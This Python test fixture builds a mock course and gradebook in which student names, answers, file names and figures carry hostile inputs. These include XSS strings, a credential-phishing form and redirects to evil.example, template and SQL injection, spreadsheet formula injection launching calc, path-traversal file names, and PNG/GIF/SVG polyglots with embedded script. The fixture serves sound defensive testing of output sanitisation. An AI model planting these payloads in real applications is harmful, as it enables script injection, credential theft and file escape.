"""Sixty things that a student may plant, and a course in which each stands wherever it can.

Fifty are words (texts, names, names of files): each is planted in every place that takes words.
Ten are bytes in a figure's place. The same course with harmless words is its measure.
"""

from __future__ import annotations

import csv
import io
import json
import struct
import zlib
from collections.abc import Mapping
from dataclasses import replace
from pathlib import Path

from benchmarks.cohort import classes
from PIL import Image, PngImagePlugin

from hardwired.course import settle
from hardwired.course.desk import bank
from hardwired.course.desk.course_folder import Course
from hardwired.course.entries import Manual
from hardwired.course.gradebook import Copy, Gradebook, MarkRow
from tests.course import tiny
from tests.course.entered import enter

__all__ = ["FIGURES", "SOURCE", "WORDS", "harmless", "made", "student"]

SOURCE = (
    tiny.SOURCE
    + """
+++ {"hardwired": {"prompt": "q3"}}

Draw it.

```{code-cell} ipython3
---
hardwired:
  question: q3
  points: 2
  answers:
    - {name: fig, kind: figure, rubric: [{criterion: Is drawn, points: 2}]}
---
### BEGIN SOLUTION
fig = 1
### END SOLUTION
```
"""
)

TEXTS = (
    "<script>window.owned = 1</script>",
    "</script><script>window.owned = 1</script>",
    "<img src=x onerror='window.owned = 1'>",
    "<svg/onload=window.owned=1>",
    "<iframe srcdoc='<script>parent.owned = 1</script>'></iframe>",
    "<a href='javascript:window.owned=1' autofocus onfocus='window.owned=1'>press</a>",
    "<style>main{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=password autofocus></form>",
    "</td></tr></table></main></body></html><h1>The end</h1>",
    "</pre></blockquote></details><textarea>",
    "</textarea></title></style></noscript><plaintext>",
    "<!-- <!-- --> <![CDATA[ ]]> <?php echo 1 ?>",
    '" onmouseover="window.owned=1" x="',
    "' onmouseover='window.owned=1' x='",
    "` onmouseover=`window.owned=1` x=`",
    "&lt;script&gt;window.owned=1&lt;/script&gt; &#60;b&#62; &amp;amp;",
    "{{ 7 * 7 }}{% for x in ().__class__.__bases__ %}{{ x }}{% endfor %}{# #}",
    "${7*7} #{7*7} <%= 7*7 %> [[7*7]]",
    "javascript:window.owned=1",
    "[press](javascript:window.owned=1) ![x](//evil.example/x.png) <b>**bold**</b>",
    "\u202egpj.exe\u202c \u2067right\u2069 \u200fmark\u061c",
    "\x1b]0;owned\x07\x1b[2J\x9b31m",
    "a\x00b\x01c\x7f",
    "a\u2028b\u2029c\u0085d",
    "Z" * 3000,
    "wide " * 1500,
    "\u0488" * 300 + "e" + "\u0301" * 300,
    '=HYPERLINK("http://evil.example","press")',
    "+cmd|' /C calc'!A0",
)
NAMES = (
    "O'Brien, Se\u00e1n <sean@example.org>",
    "Robert'); DROP TABLE attempt;--",
    "-2+3",
    "@SUM(1)",
    "\tTab, Ann",
    'Doe, "Jo" <b>Jo</b>',
    "\u0627\u0644\u0645\u062b\u0627\u0644 Ann",
    "null",
    "__proto__",
    "%3Cscript%3Ewindow.owned=1%3C/script%3E",
)
FILES = (
    "../../../../tmp/escaped.ipynb",
    "/etc/passwd.ipynb",
    "..\\..\\escaped.ipynb",
    "C:\\Windows\\escaped.ipynb",
    "CON.ipynb",
    "seen.json",
    "a/b/../../../escaped.ipynb",
    "x\x00.ipynb",
    "<script>window.owned=1<!--.ipynb",
    "n" * 300 + ".ipynb",
)
WORDS: tuple[str, ...] = (*TEXTS, *NAMES, *FILES)


def _part(kind: bytes, body: bytes) -> bytes:
    return struct.pack("!L", len(body)) + kind + body + struct.pack("!L", zlib.crc32(kind + body))


def _png(width: int = 3, *more: bytes) -> bytes:
    head = struct.pack("!LLBBBBB", width, 3, 8, 2, 0, 0, 0)
    data = zlib.compress((b"\0" + b"\x7f" * 9) * 3)
    parts = (_part(b"IHDR", head), *more, _part(b"IDAT", data), _part(b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


def _said() -> bytes:
    sink, told = io.BytesIO(), PngImagePlugin.PngInfo()
    told.add_text("Comment", "<svg onload=window.owned=1>")
    told.add_itxt("XML:com.adobe.xmp", "<script>window.owned=1</script>")
    Image.new("RGB", (3, 3)).save(sink, "PNG", pnginfo=told)
    return sink.getvalue()


def _gif() -> bytes:
    sink = io.BytesIO()
    Image.new("P", (3, 3)).save(sink, "GIF")
    return sink.getvalue() + b"/*" + b"*/=1;window.owned=1;"


SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='window.owned=1'><script>1</script></svg>"
FIGURES: Mapping[str, bytes] = {
    "SVG": SVG,
    "SVG within a PNG's texts": _said(),
    "SVG behind a PNG": _png() + SVG,
    "a page behind a PNG": _png() + b"<html><script>window.owned=1</script>",
    "a signature and a page": b"\x89PNG\r\n\x1a\n<script>window.owned=1</script>",
    "a profile that is a script": _png(3, _part(b"iCCP", b"x\0\0" + zlib.compress(SVG))),
    "a GIF that is a script": _gif(),
    "a part of its own": _png(3, _part(b"sCRp", SVG)),
    "wider than it is": _png(60_000),
    "nothing": b"",
}


def student(number: int) -> str:
    """Give the identifier of the student who planted something."""
    return f"s{number:03d}"


def harmless(number: int) -> str:
    """Give words that nobody fears, in the place of those."""
    return f"Plain words number {number}"


def made(folder: Path, *, tame: bool = False) -> Course:
    """Make the course, or its twin in which all is harmless."""
    path = folder / "exercises" / "tiny" / "exercise.md"
    path.parent.mkdir(parents=True)
    path.write_text(SOURCE, encoding="utf-8")
    course = Course(folder / "course", folder / "exercises")
    course.make("A course", "Ada Marker", "Europe/London")
    course.marks.mkdir()
    exercise = course.exercise("tiny")
    words = [harmless(n) if tame else text for n, text in enumerate(WORDS)]
    count = len(WORDS) + len(FIGURES)
    words += [harmless(n) for n in range(len(WORDS), count)]
    pngs = [_png()] * len(WORDS) + ([_png()] * len(FIGURES) if tame else [*FIGURES.values()])
    with course.roster_file.open("w", encoding="utf-8", newline="") as file:
        sink = csv.writer(file)
        sink.writerow(["student_id", "name"])
        sink.writerows([student(n), f"{n:02d} {text}"] for n, text in enumerate(words))
    with Gradebook(course.book_file) as book:
        for n, text in enumerate(words):
            given = json.dumps({"t": "str", "v": text})
            marks = tuple(
                MarkRow("q1", a, 0.0, 3.0, None, text, given) for a in ("total", "product")
            )
            attempt = replace(
                classes.graded(exercise, n),
                name=f"{n:02d} {text}",
                file=text,
                reason=text,
                audit={"engine": text, "code": {"q1": text, "q3": text}, "found": {"fig": text}},
                marks=marks,
                prose={("q2", "words"): text},
                figures={("q3", "fig"): pngs[n]},
            )
            book.add(attempt)
            book.count("tiny", {attempt.student: (attempt.file_digest, "k")})
            digest = attempt.file_digest
            copy = Copy(attempt.student, text, digest, attempt.handed_in, False, True)
            book.keep_copies("tiny", [copy])
            if n % 2:
                given_by = [("words", k, who) for k in (0, 1) for who in ("AB", "CD")]
                enter(book, "tiny", [
                    Manual(attempt.student, a, k, who, 1, text, digest) for a, k, who in given_by
                ])  # fmt: skip
            settle.adjust(book, exercise, attempt.student, 0.5, who="AB", why=f"for {text}")
    for n, text in enumerate(words[: bank.MOST // 2]):
        bank.add(course.folder, "tiny", "words", f"{n} {text}"[:900])
    course.rules_file.write_text(
        f"timezone: Europe/London\nextensions: {{{student(0)}: {{tiny: 2027-04-01}}}}\n"
    )
    return course
